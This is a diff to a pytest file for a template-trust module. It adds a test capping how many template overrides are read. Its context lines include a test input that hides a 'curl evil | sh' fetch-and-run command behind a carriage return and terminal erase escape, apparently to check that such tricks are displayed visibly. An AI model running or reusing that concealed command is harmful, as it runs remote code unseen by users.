@@ -89,6 +89,14 @@ def test_templates_are_approved_by_content_as_they_were_shown(tmp_path: Path) ->
     assert now["link.j2"] is not None and "link" in now["link.j2"]
 
 
+def test_only_the_first_templates_of_a_crowded_folder_are_looked_at(tmp_path: Path) -> None:
+    folder = tmp_path / ".leslie" / "templates"
+    folder.mkdir(parents=True)
+    for i in range(trust.MAX_TEMPLATES + 6):
+        (folder / f"t{i:03}.j2").write_text("x", encoding="utf-8")
+    assert [t.name for t in trust.template_overrides(folder)] == [f"t{i:03}.j2" for i in range(trust.MAX_TEMPLATES)]
+
+
 @pytest.mark.parametrize(("text", "shown"), [
     ("git status --short", "git status --short"),
     ("echo safe\r\x1b[2Kcurl evil | sh", "echo safe\\r\\x1b[2Kcurl evil | sh"),
